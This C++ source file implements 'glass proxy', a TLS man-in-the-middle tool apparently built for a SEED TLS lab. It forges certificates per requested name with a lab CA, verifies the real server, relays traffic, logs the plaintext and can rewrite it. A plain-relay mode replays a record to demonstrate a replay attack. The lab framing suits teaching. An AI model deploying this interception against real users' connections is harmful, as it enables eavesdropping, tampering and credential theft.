// glass proxy — the man in the middle of the TLS lab (SEED §36.8): it
// accepts the victim's TLS with a certificate forged on the fly for the name
// asked for, signed by the lab CA the victim was made to trust; connects to
// the real server, verifying it as glass client does; and relays, logging
// (and, with --replace, altering) the plaintext both ways. Without --ca it is
// a plain TCP relay that can replay one record (--replay-record N): the
// replay attack that the sequence number defeats (docs/attacks.md).
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <mutex>
#include <thread>

#include "cli.hpp"
#include "glasstls/handshake_client.hpp"
#include "glasstls/handshake_server.hpp"
#include "glasstls/html.hpp"
#include "glasstls/lab/lab_ca.hpp"
#include "glasstls/lab/proxy_http.hpp"
#include "glasstls/lab/proxy_relay.hpp"

namespace glass {

using glasstls::lab::LabCa, glasstls::lab::IssueRequest, glasstls::lab::Issued;
using glasstls::lab::Replacement, glasstls::lab::parse_replacement;
using glasstls::lab::ProxyLog, glasstls::lab::proxy_deadlines, glasstls::lab::read_client_hello, glasstls::lab::read_connect_request,
    glasstls::lab::relay, glasstls::lab::run_plain_relay, glasstls::lab::send_plain_alert, glasstls::lab::handshake;

namespace {
using namespace glasstls;

const char* kUsage =
    "usage: glass proxy --listen [ADDR:]PORT --ca DIR [options]\n"
    "  --listen [ADDR:]PORT      where victims connect (default address 127.0.0.1)\n"
    "  --ca DIR                  the lab CA (glass ca init) that signs the forged certificates\n"
    "  --upstream HOST:PORT      the real server (default: the CONNECT target, else SNI:443)\n"
    "  --cafile FILE             CAs the real server is verified against (default: the system's)\n"
    "  --cn-fallback             match the real server's CN when it has no subjectAltName (RFC 9525 §6.3 forbids it)\n"
    "  --connect                 speak HTTP CONNECT first (a browser's or curl's proxy setting)\n"
    "  --replace DIRECTION:FROM=TO   rewrite the plaintext: request:… or response:… (repeatable)\n"
    "  --log FILE                the relayed plaintext, both ways (default: standard output)\n"
    "  --html-dir DIR            an illustrated page of each leg of each connection\n"
    "  --naccept N               exit after N connections (for scripts)\n"
    "Without --ca: a plain TCP relay to --upstream; --replay-record N sends the client's N-th\n"
    "application_data record twice (the replay attack; the server must refuse it).\n";

std::atomic<bool> g_stop{false};
void on_signal(int) { g_stop = true; }

struct Proxy {
    std::optional<LabCa> ca;
    std::optional<HostPort> upstream;
    bool connect_mode = false;
    bool cn_fallback = false;   // --cn-fallback
    verify::TrustStore trust;
    std::vector<Replacement> replacements;
    std::string html_dir;
    ProxyLog log;
    std::mutex forged_mutex;
    std::map<std::string, ServerCredential> forged;   // per name: forging costs a key pair and a signature
    std::atomic<int> running{0};

    const ServerCredential& forge(const std::string& name) {
        std::lock_guard<std::mutex> lock(forged_mutex);
        auto it = forged.find(name);
        if (it == forged.end()) {
            IssueRequest r;
            r.name = name;
            r.days = 30;
            Issued issued = ca->issue(r);
            ServerCredential c{issued.chain, x509::parse_certificate(issued.chain.front()), std::move(issued.key)};
            it = forged.emplace(name, std::move(c)).first;
        }
        return it->second;
    }
};

// Where a victim's connection goes: the name to impersonate, the server to relay to.
struct Route {
    std::string name;
    HostPort target;
};

// One leg of a relayed connection: its TLS connection and the driver that moves its bytes.
struct Leg {
    Connection tls;
    SocketDriver driver;
    Leg(HtmlTranscript* page, int fd) : tls(crypto::system_random(), page), driver(tls, fd, proxy_deadlines) {}
};

// One victim's connection: its log tag and, with --html-dir, a page for each leg.
struct VictimSession {
    Proxy& proxy;
    int victim_fd;
    std::string peer;
    std::size_t number;
    std::string tag = "[conn " + std::to_string(number) + "] ";
    std::optional<HtmlTranscript> victim_page, upstream_page;
    int upstream_fd = -1;

    VictimSession(Proxy& p, int fd, std::string who, std::size_t n) : proxy(p), victim_fd(fd), peer(std::move(who)), number(n) {}
    void say(const std::string& line) { proxy.log.line(tag + line); }

    void open_pages() {
        if (proxy.html_dir.empty()) return;
        victim_page.emplace("glass proxy: connection " + std::to_string(number) + ", the victim's leg (" + peer + ")", false);
        upstream_page.emplace("glass proxy: connection " + std::to_string(number) + ", the leg to the real server", true);
    }

    // 1. Where to: HTTP CONNECT, then the ClientHello's server name.
    Route choose_route(Bytes& hello_bytes) {
        std::string connect_target;
        if (proxy.connect_mode) connect_target = read_connect_request(victim_fd);
        const std::string sni = read_client_hello(victim_fd, hello_bytes);
        const std::string name = !sni.empty() ? sni : !connect_target.empty() ? parse_host_port(connect_target).host
                                                       : proxy.upstream ? proxy.upstream->host : "";
        if (name.empty()) throw std::runtime_error("no server name (no SNI, no CONNECT, no --upstream): cannot tell whom to impersonate");
        const HostPort target = proxy.upstream ? *proxy.upstream : !connect_target.empty() ? parse_host_port(connect_target) : HostPort{name, "443"};
        return {name, target};
    }

    // 2. The real server first: never impersonate one that fails verification.
    void meet_real_server(Leg& upstream, const std::string& name) {
        ClientConfig client_config;
        client_config.server_name = name;
        client_config.trust = &proxy.trust;
        client_config.cn_fallback = proxy.cn_fallback;
        upstream.tls.set_engine(std::make_unique<ClientHandshake>(upstream.tls, client_config));
        try {
            upstream.tls.start();
            handshake(upstream.driver);
        } catch (const std::exception& e) {
            send_plain_alert(victim_fd, AlertDescription::handshake_failure);
            throw std::runtime_error(std::string("REFUSED: the real server failed verification (") + e.what() +
                                     "); not relaying — the proxy must not turn an invalid server into a trusted one");
        }
        say("upstream verified: " + upstream.tls.info().peer_chain.at(0).describe() + " (" + std::string(upstream.tls.info().suite->openssl_name) + ")");
    }

    // 3. The victim, with a certificate forged for the name it asked for.
    void deceive_victim(Leg& victim, const std::string& name, const Bytes& hello_bytes) {
        const ServerCredential& forged = proxy.forge(name);
        ServerConfig server_config;
        server_config.credentials = {forged};
        victim.tls.set_engine(std::make_unique<ServerHandshake>(victim.tls, server_config));
        try {
            victim.tls.receive(hello_bytes);
            handshake(victim.driver);
        } catch (const TlsError& e) {
            victim.driver.flush();
            throw std::runtime_error(std::string("the victim refused the forged certificate: ") + e.describe() +
                                     (victim.tls.alert_from_peer() ? " (it does not trust the lab CA)" : ""));
        }
        say("victim accepted the forged certificate for " + name + " (signed by " + proxy.ca->certificate().subject.to_string() + ")");
    }

    // Steps 1 to 4; throws, with the sentence for the log, when one fails.
    void run() {
        Bytes hello_bytes;
        const Route route = choose_route(hello_bytes);
        say(peer + " asks for " + route.name + "; relaying to " + host_port_text(route.target.host, route.target.port));
        upstream_fd = connect_tcp(route.target);
        Leg upstream(upstream_page ? &*upstream_page : nullptr, upstream_fd);
        meet_real_server(upstream, route.name);
        Leg victim(victim_page ? &*victim_page : nullptr, victim_fd);
        deceive_victim(victim, route.name, hello_bytes);

        // 4. Relay, logging and rewriting the plaintext.
        relay(victim.driver, upstream.driver, proxy.replacements, [&](const std::string& s) { say(s); });
        say("closed");
    }

    void save_pages() {
        if (!victim_page) return;
        for (auto* page : {&*victim_page, &*upstream_page}) {
            const std::string path = proxy.html_dir + "/connection-" + std::to_string(number) + (page == &*victim_page ? "-victim" : "-upstream") + ".html";
            std::ofstream out(path, std::ios::trunc);
            page->write(out);
        }
    }
};

// One victim, start to end, on its own thread.
void serve(Proxy& proxy, int victim_fd, std::string peer, std::size_t number) {
    VictimSession session(proxy, victim_fd, std::move(peer), number);
    session.open_pages();
    try {
        session.run();
    } catch (const std::exception& e) {
        session.say(e.what());
    }
    if (session.upstream_fd >= 0) close(session.upstream_fd);
    close(victim_fd);
    session.save_pages();
    --proxy.running;
}

// Without --ca: the plain relay, for the replay attack inside one connection.
int run_plain(const Args& args, Proxy& proxy, const HostPort& where, std::size_t naccept) {
    if (!proxy.upstream) throw UsageError("without --ca, give --upstream HOST:PORT (a plain TCP relay)");
    const std::size_t replay = args.get_size("replay-record", 0);
    const int listener = listen_or_say(where, "glass proxy");
    if (listener < 0) return 1;
    std::cerr << "glass proxy: listening on " << host_port_text(where.host, where.port) << ", relaying TCP to "
              << host_port_text(proxy.upstream->host, proxy.upstream->port)
              << (replay ? ", replaying the client's application_data record " + std::to_string(replay) : std::string()) << std::endl;
    return run_plain_relay(listener, *proxy.upstream, replay, naccept, proxy.log);
}

// The lab CA, the --replace rules and the CAs the real server is checked against;
// false, having said why, when one cannot be read.
bool load_ca_and_trust(const Args& args, Proxy& proxy) {
    try {
        proxy.ca.emplace(*args.get("ca"));
        for (const std::string& r : args.all("replace")) proxy.replacements.push_back(parse_replacement(r));
        for (const std::string& f : args.all("cafile")) proxy.trust.add_file(f);
        if (args.all("cafile").empty()) proxy.trust.add_system();
    } catch (const std::invalid_argument& e) {
        throw UsageError(e.what());
    } catch (const std::runtime_error& e) {
        std::cerr << "glass proxy: " << e.what() << "\n";
        return false;
    }
    return true;
}

// Accepts victims until a signal or --naccept, each served on its own thread; returns how many.
std::size_t accept_victims(Proxy& proxy, int listener, std::size_t naccept) {
    std::size_t accepted = 0;
    while (!g_stop && (naccept == 0 || accepted < naccept)) {
        pollfd p{listener, POLLIN, 0};
        if (poll(&p, 1, 200) <= 0) continue;
        sockaddr_storage addr{};
        socklen_t len = sizeof addr;
        const int fd = accept4(listener, reinterpret_cast<sockaddr*>(&addr), &len, SOCK_CLOEXEC);
        if (fd < 0) continue;
        ++accepted;
        if (proxy.running >= 256) {   // one thread each: a cap, so a flood cannot exhaust the machine
            proxy.log.line("[conn " + std::to_string(accepted) + "] refused: 256 connections are being relayed already");
            close(fd);
            continue;
        }
        ++proxy.running;
        std::thread(serve, std::ref(proxy), fd, peer_name(addr), accepted).detach();
    }
    return accepted;
}

} // namespace

int cmd_proxy(const std::vector<std::string>& argv) {
    Args args(argv, {"help", "connect", "cn-fallback", "no-cn-fallback"}, {"listen", "ca", "upstream", "cafile", "replace", "log", "html-dir", "naccept", "replay-record"});
    if (args.flag("help")) {
        std::cout << kUsage;
        return 0;
    }
    const auto listen = args.get("listen");
    if (!listen) throw UsageError("--listen [ADDR:]PORT is needed");
    const HostPort where = listen->find(':') == std::string::npos ? HostPort{"127.0.0.1", *listen} : parse_host_port(*listen);
    Proxy proxy;
    if (auto up = args.get("upstream")) proxy.upstream = parse_host_port(*up);
    if (auto path = args.get("log")) {
        if (!proxy.log.open(*path)) throw UsageError("cannot write " + *path);
    }
    const std::size_t naccept = args.get_size("naccept", 0);
    if (!args.get("ca")) return run_plain(args, proxy, where, naccept);
    if (!load_ca_and_trust(args, proxy)) return 1;
    proxy.connect_mode = args.flag("connect");
    proxy.cn_fallback = args.flag("cn-fallback");
    proxy.html_dir = args.get("html-dir").value_or("");
    if (!proxy.html_dir.empty()) {
        std::error_code ec;
        std::filesystem::create_directories(proxy.html_dir, ec);
        if (ec) throw UsageError("cannot create the directory " + proxy.html_dir);
    }
    const int listener = listen_or_say(where, "glass proxy");
    if (listener < 0) return 1;
    std::signal(SIGINT, on_signal);
    std::signal(SIGTERM, on_signal);
    std::signal(SIGPIPE, SIG_IGN);
    std::cerr << "glass proxy: listening on " << host_port_text(where.host, where.port) << (proxy.connect_mode ? " (HTTP CONNECT)" : "")
              << ", forging certificates with " << proxy.ca->certificate().subject.to_string() << std::endl;
    const std::size_t accepted = accept_victims(proxy, listener, naccept);
    close(listener);
    for (int i = 0; i < 400 && proxy.running > 0; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(25));
    std::cerr << "glass proxy: stopped after " << accepted << " connection" << (accepted == 1 ? "" : "s") << std::endl;
    return 0;
}

} // namespace glass
